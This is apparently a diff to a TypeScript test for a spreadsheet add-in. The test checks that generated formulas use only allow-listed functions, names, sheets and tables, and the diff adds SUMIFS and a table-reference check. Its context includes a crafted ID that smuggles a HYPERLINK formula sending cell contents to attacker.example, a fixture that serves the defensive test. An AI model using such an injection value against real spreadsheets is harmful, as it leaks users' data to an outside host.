@@ -20,7 +20,7 @@ const NOW = new Date("2026-12-01T00:00:00Z");
 const CRAFTED_ID = 'A1,HYPERLINK("https://attacker.example/?"&Sheet1!A1)';
 
 /** The functions the add-in's own formulas call, and nothing else. */
-const OUR_FUNCTIONS = /^(COMPUTE\.[A-Z]+|IF|NA|AND|ABS|SQRT|LN|EXP|MIN|INDEX|MATCH|IFERROR|ROWS)$/;
+const OUR_FUNCTIONS = /^(COMPUTE\.[A-Z]+|IF|NA|AND|ABS|SQRT|LN|EXP|MIN|INDEX|MATCH|IFERROR|ROWS|SUMIFS)$/;
 
 function nodes(node: FormulaNode): FormulaNode[] {
   switch (node.kind) {
@@ -45,6 +45,7 @@ function nodes(node: FormulaNode): FormulaNode[] {
 function expectOnlyOwnFormulas(workbook: FakeWorkbook) {
   const definedNames = new Set(workbook.names.map((n) => n.name.toLowerCase()));
   const sheetNames = new Set(workbook.sheets.map((s) => s.name.toLowerCase()));
+  const tableNames = new Set(workbook.tables.map((t) => t.name.toLowerCase()));
   for (const name of workbook.names)
     expect(name.name).toMatch(/^(ComputeAlliances\.[A-Za-z0-9_.]+|Scn_[A-Za-z0-9]{1,20}_[A-Za-z]+)$/);
   for (const sheet of workbook.sheets)
@@ -55,6 +56,7 @@ function expectOnlyOwnFormulas(workbook: FakeWorkbook) {
       for (const node of nodes(parsed.node)) {
         if (node.kind === "call") expect(node.name).toMatch(OUR_FUNCTIONS);
         if (node.kind === "name") expect(definedNames.has(node.name.toLowerCase())).toBe(true);
+        if (node.kind === "structured") expect(tableNames.has(node.table.toLowerCase())).toBe(true);
         if (node.kind === "reference" && node.sheet !== null) expect(sheetNames.has(node.sheet.toLowerCase())).toBe(true);
       }
     }
